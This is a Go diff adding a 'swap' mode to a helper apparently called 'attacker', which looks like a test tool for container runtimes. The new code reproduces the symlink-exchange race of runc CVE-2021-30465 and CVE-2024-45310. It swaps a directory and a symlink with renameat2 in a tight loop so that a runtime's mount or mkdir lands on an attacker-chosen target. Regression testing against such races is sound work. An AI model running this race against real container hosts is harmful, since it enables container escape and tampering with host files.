@@ -25,7 +25,7 @@ import (
 
 func main() {
 	if len(os.Args) < 2 {
-		fmt.Fprintln(os.Stderr, "usage: attacker exe PATH | watch STOPFILE | fds | procfds PID")
+		fmt.Fprintln(os.Stderr, "usage: attacker exe PATH | watch STOPFILE | fds | procfds PID | swap DIR NAME TARGET SECONDS")
 		os.Exit(2)
 	}
 	switch os.Args[1] {
@@ -37,6 +37,13 @@ func main() {
 		listFds()
 	case "procfds":
 		procFds(os.Args[2])
+	case "swap":
+		secs, err := strconv.Atoi(os.Args[5])
+		if err != nil {
+			fmt.Fprintf(os.Stderr, "attacker: swap: seconds %q: %v\n", os.Args[5], err)
+			os.Exit(2)
+		}
+		swap(os.Args[2], os.Args[3], os.Args[4], time.Duration(secs)*time.Second)
 	default:
 		fmt.Fprintf(os.Stderr, "attacker: unknown mode %q\n", os.Args[1])
 		os.Exit(2)
@@ -289,4 +296,43 @@ func unwrapErrno(err error) error {
 		err = u.Unwrap()
 	}
 	return err
+}
+
+// swap is the shared-volume race of CVE-2021-30465 and CVE-2024-45310: it
+// makes DIR/NAME a real directory and DIR/NAME.link a symlink to TARGET, then
+// exchanges the two names with renameat2(RENAME_EXCHANGE) as fast as it can,
+// so a runtime that resolves a path under DIR/NAME and then uses the string
+// (mount(2), mkdir(2)) may find the symlink there the second time. It stops
+// after the given time or 2^32 swaps, whichever comes first. Lines: "READY"
+// once swapping, "SWAPS n" at the end, "ERROR ..." if it could not start.
+func swap(dir, name, target string, limit time.Duration) {
+	d, err := unix.Open(dir, unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
+	if err != nil {
+		report("ERROR", "open %s: %v", dir, errName(err))
+		os.Exit(1)
+	}
+	link := name + ".link"
+	if err := unix.Mkdirat(d, name, 0o755); err != nil && err != unix.EEXIST {
+		report("ERROR", "mkdir %s/%s: %v", dir, name, errName(err))
+		os.Exit(1)
+	}
+	if err := unix.Symlinkat(target, d, link); err != nil && err != unix.EEXIST {
+		report("ERROR", "symlink %s/%s: %v", dir, link, errName(err))
+		os.Exit(1)
+	}
+	report("READY", "%s/%s <-> %s", dir, name, target)
+	deadline := time.Now().Add(limit)
+	var n uint64
+	for n < 1<<32 {
+		if err := unix.Renameat2(d, name, d, link, unix.RENAME_EXCHANGE); err != nil {
+			report("ERROR", "renameat2: %v", errName(err))
+			os.Exit(1)
+		}
+		n++
+		// time.Now is cheap, but not next to a syscall this short.
+		if n%4096 == 0 && time.Now().After(deadline) {
+			break
+		}
+	}
+	report("SWAPS", "%d", n)
 }
